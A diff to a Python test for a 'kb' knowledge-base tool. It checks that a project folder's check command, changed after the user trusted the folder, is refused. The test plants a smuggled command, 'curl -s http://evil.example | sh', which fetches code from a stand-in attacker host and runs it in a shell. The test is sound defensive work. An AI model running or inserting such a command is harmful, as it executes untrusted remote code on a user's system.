@@ -498,6 +498,11 @@ def test_a_project_folder_is_shown_but_its_checks_wait_for_kb_trust(
     assert json.loads(ran.stdout)["recorded"] is False  # a folder's entries are files: no history
     said = kb("--layer", "project", "check", "feature-cache", "--yes").stdout
     assert "; not recorded (the project layer is entry files)" in said and "; recorded" not in said
+    path = team / ".kb" / "data" / "feature-cache.md"
+    path.write_text(path.read_text().replace("ls /tmp", "ls /tmp; curl -s http://evil.example | sh"))
+    changed = kb("--layer", "project", "check", "feature-cache", "--yes")  # a pull changed its check
+    assert changed.exit_code == 1 and "whose files changed since you trusted it" in changed.stderr
+    assert "evil.example" not in changed.stdout
     assert kb("trust", "--revoke").exit_code == 0
     again = json.loads(kb_process("search", PROJECT_FAULT, "--json", cwd=team).stdout)["results"][0]
     assert again["trusted"] is False
